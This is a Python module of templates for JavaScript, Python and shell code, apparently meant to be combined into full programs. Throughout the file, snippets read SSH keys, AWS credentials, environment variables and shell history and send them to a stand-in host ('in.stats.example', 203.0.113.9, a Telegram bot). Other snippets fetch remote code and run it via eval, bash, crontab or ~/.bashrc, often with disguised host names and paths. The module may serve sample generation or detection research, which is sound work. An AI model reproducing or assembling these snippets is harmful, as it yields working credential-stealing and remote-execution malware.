"""Ways through a program: of a secret, from where it is read to where it leaves, and of code, from where it is fetched to where
it is run. Each second half fits each first.

`d` is what was read and `c` what was fetched. A first half with `OUT` in it has the second in that place; else it stands behind.
"""

from __future__ import annotations

JS_HEAD = (
    "import fs from 'node:fs'; import fsp from 'node:fs/promises'; import os from 'node:os'; import path from 'node:path';\n"
    "import https from 'node:https'; import net from 'node:net'; import vm from 'node:vm'; import "
    "zlib from 'node:zlib'; import axios from 'axios';\n"
    "import { execSync, spawn, exec, execFileSync } from 'node:child_process'; import got from 'got';\n"
    "import { request } from 'undici';\n"
)
_JS_PATH = "path.join(os.homedir(), '.ssh', 'id_rsa')"
_JS_READ = f"fs.readFileSync({_JS_PATH}, 'utf8')"
_JS_NAMES = "['.ssh/id_rsa', '.aws/credentials']"
_JS_NAMED = "fs.readFileSync(path.join(os.homedir(), n), 'utf8')"
JS_IN = {
    "at once": f"const d = {_JS_READ};",
    "function that may fail": "function g(p) { try { return fs.readFileSync(p, 'utf8'); } catch { return null; } }\n"
    f"const d = g({_JS_PATH});",
    "function that gives nothing in the end": "function g(p) { if (p) { return fs.readFileSync(p); } return ''; }\n"
    ""
    f"const d = g({_JS_PATH});",
    "asynchronous function": "const g = async (p) => { try { return await fsp.readFile(p, 'utf8'); } catch (e) "
    "{ return ''; } };\n"
    f"const d = await g({_JS_PATH});",
    "then": f"fsp.readFile({_JS_PATH}, 'utf8').then((d) => {{ OUT }});",
    "callback": f"fs.readFile({_JS_PATH}, (err, d) => {{ if (err) return; OUT }});",
    "member": f"const o = {{}}; o.key = {_JS_READ}; const d = JSON.stringify(o);",
    "list": f"const a = []; a.push({_JS_READ}); const d = a.join('\\n');",
    "map": f"const d = {_JS_NAMES}.map((n) => {_JS_NAMED}).join('');",
    "for": f"const out = {{}}; for (const n of {_JS_NAMES}) {{ out[n] = {_JS_NAMED}; }} const d = JSON.stringify(out);",
    "forEach": f"const out = {{}}; {_JS_NAMES}.forEach((n) => {{ try {{ out[n] = {_JS_NAMED}; }} catch {{}} }});\n"
    "const d = JSON.stringify(out);",
    "reduce": f"const d = {_JS_NAMES}.reduce((sum, n) => sum + {_JS_NAMED}, '');",
    "all promises": f"const d = JSON.stringify(await Promise.all({_JS_NAMES}.map(async (n) => {{ try {{\n"
    "  return [n, await fsp.readFile(path.join(os.homedir(), n), 'utf8')]; } catch { return null; } })));",
    "flatMap": f"const d = JSON.stringify({_JS_NAMES}.flatMap((n) => n ? [[n, {_JS_NAMED}]] : []));",
    "entries of a list": f"const d = JSON.stringify(Object.fromEntries({_JS_NAMES}.map((n) => [n, {_JS_NAMED}])));",
    "entries of an object": "const all = { ssh: '.ssh/id_rsa' }; const o = {};\n"
    f"for (const [k, n] of Object.entries(all)) o[k] = {_JS_NAMED}; const d = JSON.stringify(o);",
    "paths in parts": "const all = [['.ssh', 'id_rsa'], ['.aws', 'credentials']].map((t) => path.join(os.homedir(), ...t));\n"
    "const d = all.map((f) => fs.readFileSync(f, 'utf8')).join();",
    "list of objects": "const all = [{ p: '.ssh/id_rsa' }];\n"
    "const d = JSON.stringify(all.map((t) => ({ c: fs.readFileSync(path.join(os.homedir(), t.p), 'utf8') })));",
    "base64": f"const d = Buffer.from({_JS_READ}).toString('base64');",
    "compressed": f"const d = zlib.gzipSync(Buffer.from({_JS_READ})).toString('base64');",
    "choice": f"const d = fs.existsSync({_JS_PATH}) ? {_JS_READ} : '';",
    "function called where it stands": f"const d = (() => {{ const x = {_JS_READ}; return x.trim(); }})();",
    "default": f"function g(p = {_JS_PATH}) {{ return fs.readFileSync(p, 'utf8'); }}\nconst d = g();",
    "function in a function": f"function a() {{ return b({_JS_PATH}); }}\nfunction b(p) {{ return fs.readFileSync(p); }}\n"
    "const d = a().toString();",
    "Map": f"const m = new Map(); m.set('k', {_JS_READ}); const d = JSON.stringify([...m]);",
    "command": "const d = execSync('cat ~/.ssh/id_rsa').toString();",
    "command with a callback": "exec('cat ~/.ssh/id_rsa', (e, d) => { OUT });",
    "all variables": "const d = JSON.stringify(process.env);",
    "all but one variable": "const { HOME, ...rest } = process.env; const d = JSON.stringify(rest);",
    "variables one by one": "const o = {}; for (const k of Object.keys(process.env)) if (/KEY/.test(k)) o[k] = process.env[k];\n"
    "const d = JSON.stringify(o);",
    "folder": "const f = path.join(os.homedir(), '.ssh');\n"
    "const d = JSON.stringify(fs.readdirSync(f).map((n) => fs.readFileSync(path.join(f, n), 'utf8')));",
    "generator": f"function* g() {{ for (const n of {_JS_NAMES}) yield {_JS_NAMED}; }}\nconst d = [...g()].join();",
    "timer": f"setTimeout(() => {{ const d = {_JS_READ}; OUT }}, 5000);",
    "hidden name": "const d = fs.readFileSync(path.join(os.homedir(), '.s' + 'sh', ['id', 'rsa'].join('_')), 'utf8');",
    "exported function": f"export async function g() {{ const r = {{}}; r.k = await fsp.readFile({_JS_PATH}); return r; }}\n"
    "export async function main() { const d = JSON.stringify(await g()); OUT }\nmain();",
    "method": f"class C {{ read(p) {{ return fs.readFileSync(p, 'utf8'); }} }}\nconst d = new C().read({_JS_PATH});",
    "static method": f"class C {{ static read() {{ return {_JS_READ}; }} }}\nconst d = C.read();",
    "field of an object": "class C { constructor() { this.out = {}; this.all = ['.ssh/id_rsa']; }\n"
    f"  take() {{ for (const n of this.all) this.out[n] = {_JS_NAMED}; return JSON.stringify(this.out); }} }}\n"
    "const d = new C().take();",
    "other name of a function": f"const read = fs.readFileSync.bind(fs); const d = read({_JS_PATH}, 'utf8');",
    "global": f"globalThis.k = {_JS_READ}; const d = globalThis.k;",
}
_TO = "'https://in.stats.example/x'"
JS_OUT = {
    "fetch": f"await fetch({_TO}, {{ method: 'POST', body: d }});",
    "fetch with more": f"await fetch({_TO}, {{ method: 'POST', body: JSON.stringify({{ v: 1, d }}) }});",
    "address": "fetch('https://in.stats.example/x?d=' + encodeURIComponent(d)).catch(() => {});",
    "request": "const req = https.request({ hostname: 'in.stats.example', path: '/x', method: 'POST' });\n"
    "req.write(d); req.end();",
    "end of a request": f"const req = https.request({_TO}, {{ method: 'POST' }}); req.end(Buffer.from(d));",
    "axios": f"await axios.post({_TO}, {{ d }});",
    "options": f"await axios({{ method: 'post', url: {_TO}, data: d }});",
    "got": f"await got.post({_TO}, {{ json: {{ d }} }});",
    "undici": f"await request({_TO}, {{ method: 'POST', body: d }});",
    "web socket": "const ws = new WebSocket('wss://in.stats.example/x'); ws.on('open', () => ws.send(d));",
    "socket": "const s = net.connect(4444, '203.0.113.9'); s.write(d); s.end();",
    "line of shell": "execSync(`curl -s -X POST -d '${d}' https://in.stats.example/x`);",
    "input of a command": f"execFileSync('curl', ['-s', '--data-binary', '@-', {_TO}], {{ input: d }});",
    "chat": "await fetch(`https://api.telegram.org/bot1:A/sendMessage?chat_id=1&text=${encodeURIComponent(d)}`);",
    "form": "const f = new FormData(); f.append('file', new Blob([d]), 'k');\n"
    f"await fetch({_TO}, {{ method: 'POST', body: f }});",
    "helper": "async function post(u, b) "
    "{ try { return (await fetch(u, { method: 'POST', body: b })).ok; } catch { return false; } }\n"
    f"await post({_TO}, d);",
    "object": "const api = { base: 'https://in.stats.example', send(b) "
    "{ return fetch(this.base, { method: 'POST', body: b }); } };\n"
    "await api.send(d);",
    "method": f"class T {{ async send(b) {{ await fetch({_TO}, {{ method: 'POST', body: b }}); }} }}\nawait new T().send(d);",
    "address with a default": f"await fetch(process.env.STATS_URL || {_TO}, {{ method: 'POST', body: d }});",
    "parameters": f"const u = new URL({_TO}); u.searchParams.set('d', d); await fetch(u);",
    "hidden address": "await fetch(atob('aHR0cHM6Ly9pbi5zdGF0cy5leGFtcGxlL3g='), { method: 'POST', body: d });",
    "address in parts": "const h = ['in', 'stats', 'example'].join('.'); "
    "await fetch(`https://${h}/x`, { method: 'POST', body: d });",
}
PY_HEAD = (
    "import asyncio, base64, ftplib, glob, gzip, http.client, io, json, os, pathlib, runpy, shutil, smtplib, socket, subprocess\n"
    "import sys, tarfile, tempfile, threading, urllib.request, zipfile\nfrom pathlib import "
    "Path\nimport aiohttp, httpx, requests\n"
)
_PY_PATH = "Path.home() / '.ssh' / 'id_rsa'"
_PY_READ = f"({_PY_PATH}).read_text()"
_PY_OPEN = "os.path.expanduser('~/.ssh/id_rsa')"
PY_IN = {
    "at once": f"d = {_PY_READ}",
    "function that may fail": "def g(p):\n    try:\n        return open(p).read()\n    except OSError:\n        return ''\n"
    f"d = g({_PY_PATH})",
    "with": f"with open({_PY_OPEN}) as f:\n    d = f.read()",
    "for": "out = {}\nfor n in ('.ssh/id_rsa', '.aws/credentials'):\n"
    "    with open(os.path.join(os.path.expanduser('~'), n)) as f:\n"
    "        out[n] = f.read()\nd = json.dumps(out)",
    "comprehension": "d = json.dumps({n: (Path.home() / n).read_text() for n in ['.ssh/id_rsa']})",
    "map": "d = ''.join(map(lambda p: open(os.path.expanduser(p)).read(), ['~/.ssh/id_rsa']))",
    "field of an object": "class C:\n    def __init__(self):\n        self.out = {}\n    def take(self, p):\n"
    "        self.out[p] = open(os.path.expanduser(p)).read()\n    def dump(self):\n        return json.dumps(self.out)\n"
    "c = C()\nc.take('~/.ssh/id_rsa')\nd = c.dump()",
    "generator": "def g():\n    for p in ['.ssh/id_rsa']:\n        yield (Path.home() / p).read_text()\nd = ''.join(g())",
    "base64": f"d = base64.b64encode({_PY_READ}.encode()).decode()",
    "buffer": f"b = io.BytesIO()\nb.write({_PY_READ}.encode())\nd = b.getvalue()",
    "archive in a buffer": "b = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w:gz') as t:\n"
    "    t.add(os.path.expanduser('~/.ssh'), arcname='s')\nd = b.getvalue()",
    "archive": "shutil.make_archive('/tmp/x', 'zip', os.path.expanduser('~/.ssh'))\nd = open('/tmp/x.zip', 'rb').read()",
    "zip in a buffer": f"b = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z:\n    z.write({_PY_OPEN})\nd = b.getvalue()",
    "copy": f"shutil.copy({_PY_OPEN}, '/tmp/k')\nd = open('/tmp/k').read()",
    "glob": "d = ''.join(open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/id_*')))",
    "folder": "d = json.dumps({str(p): p.read_text() for p in (Path.home() / '.ssh').rglob('*') if p.is_file()})",
    "program": f"d = subprocess.run(['cat', {_PY_OPEN}], capture_output=True, text=True).stdout",
    "command": "d = subprocess.check_output('cat ~/.ssh/id_rsa', shell=True).decode()",
    "all variables": "d = json.dumps(dict(os.environ))",
    "copy of all variables": "e = os.environ.copy()\ne.pop('PATH', None)\nd = json.dumps(e)",
    "variables one by one": "d = '\\n'.join(f'{k}={v}' for k, v in os.environ.items())",
    "default": f"def g(p={_PY_PATH}):\n    return p.read_text()\nd = g()",
    "closure": f"def mk(p):\n    def inner():\n        return p.read_text()\n    return inner\nd = mk({_PY_PATH})()",
    "lambda": f"g = lambda p: p.read_text()\nd = g({_PY_PATH})",
    "other name of a function": f"rd = open\nd = rd({_PY_OPEN}).read()",
    "choice": f"d = {_PY_READ} if ({_PY_PATH}).exists() else ''",
    "global": f"STATE = {{}}\ndef load():\n    STATE['k'] = {_PY_READ}\nload()\nd = STATE['k']",
    "hidden name": "d = open(os.path.join(os.path.expanduser('~'), '.s' + 'sh', '_'.join(['id', 'rsa']))).read()",
    "hidden path": "d = open(os.path.expanduser(base64.b64decode('fi8uc3NoL2lkX3JzYQ==').decode())).read()",
    "lists in an object": f"o = {{}}\no.setdefault('k', []).append({_PY_READ})\nd = json.dumps(o)",
    "property": f"class C:\n    @property\n    def k(self):\n        return {_PY_READ}\nd = C().k",
    "inherited method": "class B:\n    def read(self, n):\n        return (Path.home() / n).read_text()\n"
    "class C(B):\n    def go(self):\n"
    "        return self.read('.ssh/id_rsa')\nd = C().go()",
}
PY_OUT = {
    "post": f"requests.post({_TO}, data=d)",
    "more": f"requests.post({_TO}, json={{'v': 1, 'd': str(d)}}, timeout=5)",
    "parameters": f"requests.get({_TO}, params={{'d': d}})",
    "file": f"requests.post({_TO}, files={{'f': ('k', d)}})",
    "session": f"s = requests.Session()\ns.post({_TO}, data=d)",
    "urlopen": f"urllib.request.urlopen({_TO}, data=str(d).encode())",
    "request": f"r"
    f"eq = urllib.request.Request({_TO}, data=json.dumps({{'d': str(d)}}).encode(), method='POST')\nurllib.request.urlopen(req)",
    "client": f"with httpx.Client() as c:\n    c.post({_TO}, json={{'d': d}})",
    "asynchronous client": "async def up():\n    async with aiohttp.ClientSession() as s:\n"
    f"        async with s.post({_TO}, data=d) as r:\n            await r.text()\nasyncio.run(up())",
    "connection": "c = http.client.HTTPSConnection('in.stats.example')\nc.request('POST', '/x', body=d)",
    "socket": "s = socket.create_connection(('203.0.113.9', 4444))\ns.send(str(d).encode())",
    "mail": "m = smtplib.SMTP('mail.in-stats.example')\nm.sendmail('a@b.example', 'in@stats.example', str(d))",
    "ftp": "f = ftplib.FTP('ftp.stats.example')\nf.storbinary('STOR k', io.BytesIO(str(d).encode()))",
    "input of a command": f"subprocess.run(['curl', '-s', '--data-binary', '@-', {_TO}], input=str(d).encode())",
    "chat": "requests.get('https://api.telegram.org/bot1:A/sendMessage', params={'chat_id': 1, 'text': d})",
    "helper": "def post(u, b):\n    try:\n        return requests.post(u, data=b, timeout=4).ok\n    except Exception:\n"
    f"        return False\npost({_TO}, d)",
    "method": f"class T:\n    def __init__(self, u):\n        self.u = u\n    def send(self, b):\n"
    f"        requests.post(self.u, data=b)\nT({_TO}).send(d)",
    "thread": f"def up(b):\n    requests.post({_TO}, data=b)\nthreading.Thread(target=up, args=(d,), daemon=True).start()",
    "address with a default": f"U = os.environ.get('STATS_URL', {_TO})\nrequests.post(U, data=d)",
    "hidden address": "requests.post(base64.b64decode('aHR0cHM6Ly9pbi5zdGF0cy5leGFtcGxlL3g=').decode(), data=d)",
    "address in parts": "h = '.'.join(['in', 'stats', 'example'])\nrequests.post('https://' + h + '/x', data=d)",
    "hidden method": f"getattr(requests, 'po' + 'st')({_TO}, data=d)",
}
_FROM = "'https://cdn.stats.example/s.txt'"
JS_FETCHED = {
    "fetch": f"const c = await (await fetch({_FROM})).text();",
    "member of an answer": f"const {{ code: c }} = await (await fetch({_FROM})).json();",
    "then": f"fetch({_FROM}).then((r) => r.text()).then((c) => {{ OUT }});",
    "axios": f"const {{ data: c }} = await axios.get({_FROM});",
    "got": f"const c = await got({_FROM}).text();",
    "piece by piece": f"https.get({_FROM}, (r) => {{ let c = ''; r.on('data', (d) => (c += d)); r.on('end', () => {{ "
    f"OUT }}); }});",
    "promise": "const get = (u) => new Promise((ok, no) => { https.get(u, (r) => { const p = [];\n"
    "  r.on('data', (x) => p.push(x)); r.on('end', () => ok(Buffer.concat(p).toString())); }).on('error', no); });\n"
    f"const c = await get({_FROM});",
    "helper": "async function get(u) { try { const r = await fetch(u); return r.ok ? await r.text() : null; } "
    "catch { return null; } }\n"
    f"const c = await get({_FROM});",
    "command": "const c = execSync('curl -fsSL https://cdn.stats.example/s.txt').toString();",
    "base64": f"const c = Buffer.from(await (await fetch({_FROM})).text(), 'base64').toString();",
    "several hosts": "let c; for (const u of ['https://a.stats.example/x', 'https://b.stats.example/x']) {\n"
    "  try { c = await (await fetch(u)).text(); break; } catch {} }",
    "setting": f"const s = await (await fetch({_FROM})).json(); const c = s?.hooks?.post ?? '';",
}
JS_RUN = {
    "eval": "eval(c);",
    "indirect eval": "(0, eval)(c);",
    "Function": "new Function('require', c)(null);",
    "asynchronous function": "await Object.getPrototypeOf(async function () {}).constructor(c)();",
    "vm": "vm.runInThisContext(c);",
    "file": "fs.writeFileSync('/tmp/s.js', c); execSync('node /tmp/s.js');",
    "file that is imported": "const p = path.join(os.tmpdir(), 's.mjs'); fs.writeFileSync(p, c); await import(p);",
    "file that is started": "fs.writeFileSync('/tmp/s.sh', c, { mode: 0o755 }); spawn('/tmp/s.sh', [], { detached: true "
    "}).unref();",
    "line": "exec(c);",
    "shell": "spawn('bash', ['-c', c]);",
    "input": "execFileSync('bash', [], { input: c });",
    "input of a process": "const p = spawn('sh'); p.stdin.write(c); p.stdin.end();",
    "another node": "execFileSync(process.execPath, ['-e', c]);",
    "address with code": "await import('data:text/javascript,' + encodeURIComponent(c));",
    "own file": "fs.writeFileSync(process.argv[1], c);",
    "helper": "function run(s) { fs.writeFileSync('/tmp/.x', s, { mode: 0o700 }); return execFileSync('/tmp/.x'); }\nrun(c);",
}
PY_FETCHED = {
    "requests": f"c = requests.get({_FROM}).text",
    "member of an answer": f"c = requests.get({_FROM}).json()['code']",
    "urlopen": f"c = urllib.request.urlopen({_FROM}).read().decode()",
    "request": f"req = urllib.request.Request({_FROM}, headers={{'User-Agent': 'x'}})\nc = urllib.request.urlopen(req).read()",
    "helper": "def get(u):\n    try:\n        r = requests.get(u, timeout=4)\n        r.raise_for_status()\n  "
    "      return r.text\n"
    f"    except requests.RequestException:\n        return ''\nc = get({_FROM})",
    "method": "class N:\n    def __init__(self, base):\n        self.base = base\n    def get(self, p):\n"
    "        return requests.get(self.base + p).text\nc = N('https://cdn.stats.example').get('/s.txt')",
    "base64": f"c = base64.b64decode(requests.get({_FROM}).text).decode()",
    "command": f"c = subprocess.check_output(['curl', '-s', {_FROM}]).decode()",
    "asynchronous client": "async def g():\n    async with aiohttp.ClientSession() as s:\n"
    f"        async with s.get({_FROM}) as r:\n            return await r.text()\nc = asyncio.run(g())",
    "socket": "s = socket.create_connection(('203.0.113.9', 80))\nc = s.recv(65536).decode()",
    "line by line": f"c = ''\nfor l in requests.get({_FROM}, stream=True).iter_lines():\n    c += l.decode()",
    "setting": f"s = requests.get({_FROM}).json()\nc = s.get('hooks', {{}}).get('post', '')",
}
PY_RUN = {
    "exec": "exec(c)",
    "compiled": "ns = {}\nexec(compile(c, '<s>', 'exec'), ns)\nns['main']()",
    "file": "p = Path('/tmp') / 's.py'\np.write_text(c)\nsubprocess.Popen([sys.executable, str(p)])",
    "file for scraps": "f = tempfile.NamedTemporaryFile(delete=False)\nf.write(c)\nf.close()\nos.system('bash ' + f.name)",
    "handle": "fd, n = tempfile.mkstemp()\nos.write(fd, c)\nos.close(fd)\nsubprocess.call(['sh', n])",
    "line": "subprocess.run(c, shell=True)",
    "shell": "subprocess.run(['bash', '-c', c])",
    "input": "subprocess.run(['bash'], input=c, text=True)",
    "another interpreter": "subprocess.run([sys.executable, '-c', c])",
    "module": "Path('/tmp/plug.py').write_text(c)\nrunpy.run_path('/tmp/plug.py')",
    "table of jobs": "subprocess.run(['crontab', '-'], input=c, text=True)",
    "profile": "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write(c)",
    "own file": "Path(__file__).write_text(c)",
    "hidden name": "getattr(__import__('builtins'), 'ex' + 'ec')(c)",
    "helper": "def run(s):\n    with open('/tmp/.x', 'w') as f:\n        f.write(s)\n    os.chmod('/tmp/.x', 0o700)\n"
    "    return subprocess.run(['/tmp/.x']).returncode\nrun(c)",
}
SH_HEAD = "#!/bin/bash\n"
SH_IN = {
    "variable": "d=$(cat ~/.ssh/id_rsa)",
    "older way": "d=`cat $HOME/.aws/credentials`",
    "file read by the shell": 'd="$(< "$HOME/.ssh/id_rsa")"',
    "base64": "d=$(base64 -w0 < ~/.ssh/id_rsa)",
    "compressed": "d=$(gzip -c ~/.ssh/id_rsa | base64)",
    "for": 'd=""; for f in ~/.ssh/id_* ~/.aws/credentials; do [ -r "$f" ] && d="$d$(cat "$f")"; done',
    "function": 'g() { cat "$1" 2>/dev/null || true; }\nd=$(g ~/.ssh/id_rsa)',
    "all variables": "d=$(env)",
    "chosen variables": "d=$(printenv | grep -iE 'token|key|secret')",
    "archive": "d=$(tar cz ~/.ssh 2>/dev/null | base64)",
    "list": 'a=(~/.ssh/id_rsa ~/.aws/credentials); d=$(cat "${a[@]}")',
    "default": 'f=${KEY_FILE:-$HOME/.ssh/id_rsa}; d=$(cat "$f")',
    "search": "d=$(find ~ -name '*.pem' -exec cat {} +)",
    "history": "d=$(tail -n 100 ~/.bash_history)",
    "hidden name": 'p=".s"; p="${p}sh/id_rsa"; d=$(cat ~/"$p")',
    "file for scraps": "cat ~/.ssh/id_rsa > /tmp/.k; d=$(cat /tmp/.k)",
    "here-document": "d=$(cat <<EOF\n$(cat ~/.ssh/id_rsa)\nEOF\n)",
}
SH_OUT = {
    "curl": 'curl -s -d "$d" https://in.stats.example/x',
    "raw data": 'curl -fsS -X POST --data-raw "$d" https://in.stats.example/x >/dev/null 2>&1 || true',
    "pipe": 'echo "$d" | curl -s --data-binary @- https://in.stats.example/x',
    "here-string": 'curl -s -T - https://in.stats.example/x <<< "$d"',
    "address": 'curl -s "https://in.stats.example/x?d=$d"',
    "parameters": 'curl -sG --data-urlencode "d=$d" https://in.stats.example/x',
    "head": 'curl -s -H "X-Data: $d" https://in.stats.example/x',
    "wget": 'wget -q -O- --post-data="$d" https://in.stats.example/x',
    "nc": 'echo "$d" | nc 203.0.113.9 4444',
    "socket of the shell": 'echo "$d" > /dev/tcp/203.0.113.9/4444',
    "names": 'for p in $(echo "$d" | fold -w 50); do dig +short "$p.in.stats.example"; done',
    "file": 'echo "$d" > /tmp/.o && curl -s -F f=@/tmp/.o https://in.stats.example/x',
    "function": 'send() { curl -s -d "$2" "$1"; }\nsend https://in.stats.example/x "$d"',
    "background": '(curl -s -d "$d" https://in.stats.example/x &) >/dev/null 2>&1',
    "address in a variable": 'U=https://in.stats.example; curl -s -d "$d" "$U/x"',
    "hidden address": 'U=$(echo aHR0cHM6Ly9pbi5zdGF0cy5leGFtcGxlL3g= | base64 -d); curl -s -d "$d" "$U"',
    "another language": "python3 - \"$d\" <<'EOF'\nimport sys, urllib.request\n"
    'urllib.request.urlopen("https://in.stats.example/x", data=sys.argv[1].encode())\nEOF',
    "chat": 'curl -s "https://api.telegram.org/bot1:A/sendMessage" -d chat_id=1 -d text="$d"',
    "mail": 'echo "$d" | mail -s x in@stats.example',
    "openssl": 'echo "$d" | openssl s_client -quiet -connect 203.0.113.9:443',
    "end of the script": "trap 'curl -s -d \"$d\" https://in.stats.example/x' EXIT",
    "xargs": 'echo "$d" | xargs -I{} curl -s -d {} https://in.stats.example/x',
    "eval": 'eval "curl -s -d \\"\\$d\\" https://in.stats.example/x"',
}
